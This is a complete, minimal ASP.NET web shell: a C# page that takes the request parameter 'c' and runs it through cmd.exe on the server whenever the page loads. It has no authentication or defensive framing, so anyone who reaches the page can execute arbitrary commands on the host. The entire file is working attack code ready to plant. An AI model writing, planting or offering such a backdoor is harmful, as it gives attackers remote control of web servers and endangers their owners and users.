<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    if (Request["c"] == null) return;
    Process.Start("cmd.exe", "/c " + Request["c"]);
    Response.Write("started");
}
</script>
